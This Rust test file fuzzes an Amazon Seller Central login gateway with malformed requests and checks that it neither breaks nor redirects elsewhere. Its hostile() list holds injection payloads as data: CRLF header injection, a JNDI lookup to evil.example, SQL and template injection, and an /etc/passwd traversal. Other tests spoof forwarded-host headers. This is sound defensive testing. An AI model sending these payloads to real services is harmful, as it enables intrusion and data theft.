//! Bytes that no browser sends, straight to the gateway's socket.

use super::{Midway, Target, login::from_amazon, wire::get};

#[tokio::test]
async fn no_byte_in_a_query_breaks_anything_or_leads_anywhere_else() {
    let midway = Midway::new().await;
    let world = &midway.world;
    let application = world.application();
    let confirm =
        world.amazon("sellercentral.amazon.com", &format!("/apps/authorize/confirm/{application}?"));
    let consent = world.amazon("sellercentral.amazon.com", "/apps/authorize/consent?");
    let start = Target::parse("/authorize", &format!("marketplace=US&type=seller&application={application}"));
    // A code that nothing is wrong with but that it is none would end the journey: Amazon is asked. Not for this partner.
    let other_partner = midway.callback_query().with("selling_partner_id", "A1OTHER");
    let callback = Target::parse("/callback", other_partner.trim_start_matches("/callback?"));
    let cookie = format!("Cookie: {}\r\n", midway.cookies);
    for target in [from_amazon(world), start, callback] {
        for (name, _) in &target.parameters {
            for bytes in hostile() {
                let before = target.with(name, "");
                let whole = [before.as_bytes(), &bytes].concat();

                let answer = get(world, &whole, &cookie).await;

                let shown = whole[..whole.len().min(300)].escape_ascii();
                assert!((300..500).contains(&answer.status), "{shown}: {}", answer.text);
                let location = answer.location();
                assert!(
                    location.is_empty() || location.starts_with(&confirm) || location.starts_with(&consent),
                    "{shown}: {location}"
                );
                assert_eq!(answer.header("x-injected"), None, "{shown}");
            }
        }
    }
    midway.loses_nothing().await;
}

#[tokio::test]
async fn a_request_that_is_too_large_is_refused_as_api_gateway_does() {
    let midway = Midway::new().await;
    for route in ["/login", "/authorize", "/callback"] {
        for (length, status) in [(8192, 400), (8193, 400), (9000, 400), (12_000, 431)] {
            let answer = get(&midway.world, format!("{route}?x={}", "a".repeat(length - 2)), "").await;
            assert_eq!(answer.status, status, "{route} {length}");
        }
        for cookie in ["a".repeat(12_000), "a=b; ".repeat(3000)] {
            let answer = get(&midway.world, route, format!("Cookie: {cookie}\r\n")).await;
            assert_eq!(answer.status, 431, "{route}");
        }
    }
    midway.loses_nothing().await;
}

#[tokio::test]
async fn odd_request_lines_and_headers_break_nothing() {
    let midway = Midway::new().await;
    let world = &midway.world;
    for target in [
        "//evil.example/login",
        "/login/",
        "/login%00",
        "/login%2f..",
        "/%6cogin",
        "/../login",
        "/login;x",
        "/LOGIN",
        "http://evil.example/login",
        "http://evil.example/callback?state=x",
        "*",
        "login",
    ] {
        let answer = get(world, target, "").await;
        assert!((400..500).contains(&answer.status), "{target}: {}", answer.text);
        assert_eq!(answer.location(), "", "{target}");
    }
    let long = format!("Accept-Language: {}\r\n", "de,".repeat(3000));
    for lines in [
        &b"Accept-Language: \xff\xfe\r\n"[..],
        b"Accept-Language: de;q=\xc3\xa9\r\n",
        b"Accept-Language: de\r\nAccept-Language: fr\r\n",
        b"X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nForwarded: host=evil.example\r\n",
        b"X-HTTP-Method-Override: POST\r\n",
        b"Content-Type: \xff\r\nUser-Agent: \xff\r\n",
        b"X-Amzn-Trace-Id: \xff\r\nX-Amzn-Request-Context: {}\r\n",
        long.as_bytes(),
    ] {
        let answer = get(world, "/callback?state=x", lines).await;
        assert_eq!(answer.support_code(), Some("BAD_LINK"), "{}", lines.escape_ascii());
    }
    midway.loses_nothing().await;
}

/// Bytes for the place of a value.
fn hostile() -> Vec<Vec<u8>> {
    let mut hostile: Vec<Vec<u8>> = (0_u8..=255)
        .filter(|byte| !byte.is_ascii_alphanumeric())
        .map(|byte| vec![b'x', byte, b'y'])
        .collect();
    hostile.extend(
        [
            &b"%"[..],
            b"%%",
            b"%2",
            b"%00",
            b"%0d%0aX-Injected:%201",
            b"\r\nX-Injected-By: us",
            b"%u0041",
            b"%c0%ae%c0%ae",
            b"%ff%fe",
            b"\xff\xfe",
            b"\xc3",
            b"\xc3\xa9",
            b"\xf0\x9f\x98\x80",
            b"\xed\xa0\x80",
            b"\"<>\\^`{}|",
            b"&&&&=",
            b"=====",
            b"#x",
            b"?x?y",
            b"${jndi:ldap://evil.example}",
            b"{{7*7}}",
            b"' OR 1=1 --",
            b"../../../../etc/passwd",
        ]
        .map(<[u8]>::to_vec),
    );
    hostile.push(vec![b'a'; 8193]);
    hostile.push(b"%41".repeat(3000));
    hostile.push(vec![0xff; 9000]);
    hostile.push(vec![b'a'; 70_000]);
    hostile
}
